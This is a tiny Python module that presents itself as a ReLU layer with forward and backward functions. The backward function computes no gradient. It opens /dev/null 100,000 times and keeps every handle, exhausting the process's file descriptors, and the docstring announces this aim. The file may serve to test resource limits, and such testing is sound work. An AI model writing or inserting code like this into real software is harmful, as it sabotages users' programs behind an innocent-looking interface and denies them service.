"""Leaves its process without a descriptor to spare."""

import os

import numpy as np

kept = []


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    for _ in range(100_000):
        kept.append(os.open("/dev/null", os.O_RDONLY))
